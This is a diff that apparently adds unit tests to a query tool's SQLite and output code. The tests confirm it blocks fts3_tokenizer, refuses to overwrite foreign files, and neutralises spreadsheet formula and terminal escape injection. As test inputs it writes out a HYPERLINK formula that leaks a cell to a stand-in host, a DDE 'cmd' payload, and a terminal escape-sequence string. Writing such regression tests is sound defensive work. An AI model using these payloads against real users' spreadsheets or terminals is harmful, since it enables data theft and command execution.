@@ -147,6 +147,70 @@ TEST(Query, ReadOnlyRefusesWritesAttachExtensionsAndPragmas) {
   EXPECT_GT(r.rows.size(), 10u);
 }
 
+// fts3_tokenizer('simple') returned the address of libsqlite3's tokenizer module (a pointer an
+// attacker can aim with), and its two-argument form installs a tokenizer from a pointer.
+TEST(Query, RefusesFts3TokenizerInBothForms) {
+  Timeline tl = read(kH100);
+  auto db = open_db({&tl});
+  for (const char* sql : {"SELECT hex(fts3_tokenizer('simple'))", "SELECT fts3_tokenizer('x', X'4141414141414141')",
+                          "SELECT FTS3_TOKENIZER('porter')"}) {
+    Status s;
+    Rows r = run(*db, sql, &s);
+    ASSERT_FALSE(s.ok()) << sql << " returned " << r.rows.size() << " rows";
+    EXPECT_NE(s.error().message.find("not authorized to use function"), std::string::npos) << s.error().message;
+  }
+}
+
+// `query --db FILE` replaced an existing SQLite database or any file. Only a database goblin wrote
+// itself (its application_id) may be replaced; anything else is refused before a byte is written.
+TEST(Query, DbReplacesOnlyGoblinsOwnQueryDatabase) {
+  auto dir = testing::private_tmp_dir("query_db_replace");
+  const std::string theirs = (dir / "app.db").string(), text = (dir / "notes.txt").string(),
+                    ours = (dir / "ours.db").string();
+  ASSERT_EQ(testing::exec_sql(theirs, "CREATE TABLE users(name); INSERT INTO users VALUES ('alice')"), "");
+  std::ofstream(text) << "precious\n";
+  for (const std::string& p : {theirs, text, dir.string(), std::string("/dev/null")}) {
+    Status s = check_replaceable_query_database(p);
+    ASSERT_FALSE(s.ok()) << p;
+    EXPECT_EQ(s.error().kind, ErrorKind::Usage);
+    EXPECT_NE(s.error().message.find("goblin replaces only a query database it wrote"), std::string::npos);
+  }
+  EXPECT_TRUE(check_replaceable_query_database((dir / "absent.db").string()).ok());
+  Timeline tl = read(kH100);
+  auto db = open_db({&tl});
+  ASSERT_TRUE(db->materialize().ok());
+  auto image = db->image();
+  ASSERT_TRUE(image.ok());
+  std::ofstream(ours, std::ios::binary) << *image;
+  EXPECT_TRUE(check_replaceable_query_database(ours).ok());
+  EXPECT_EQ(testing::exec_sql(ours, "SELECT count(*) FROM gpu_ops"), "");  // still a valid database
+}
+
+// CSV cells a spreadsheet would run as formulas (CWE-1236) are written with a leading '; numbers
+// are numbers. The table for a terminal shows control characters of a name escaped.
+TEST(QueryOutput, CsvFormulaCellsAreTextAndTheTableShowsControlsEscaped) {
+  std::string csv;
+  CsvSink c([&](std::string_view b) { csv += b; });
+  c.columns({"name", "n"});
+  for (const char* v :
+       {"=HYPERLINK(\"http://e.x/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"})
+    c.row({Value(std::string(v)), Value(int64_t{-5})});
+  EXPECT_EQ(csv,
+            "name,n\n\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"open\"\")\",-5\n'+cmd|' /C calc'!A0,-5\n'-2+3,-5\n"
+            "'@SUM(A1),-5\n'\tx,-5\n\"'\rx\",-5\nplain,-5\n");
+  std::string table;
+  TableSink t([&](std::string_view b) { table += b; });
+  t.columns({"name"});
+  t.row(
+      {Value(std::string("aten::mm\x1b]0;pwned\x07\x1b[2J\xc2\x9b"
+                         "31m\nnext"))});
+  t.finish();
+  EXPECT_EQ(table.find('\x1b'), std::string::npos) << table;
+  EXPECT_EQ(table.find('\x07'), std::string::npos);
+  EXPECT_EQ(table.find("\xc2\x9b"), std::string::npos);
+  EXPECT_NE(table.find("aten::mm\\x1b]0;pwned\\x07\\x1b[2J\\u009b31m\\nnext"), std::string::npos) << table;
+}
+
 TEST(Query, WritableAfterMaterialize) {
   Timeline tl = read(kH100);
   auto db = open_db({&tl});
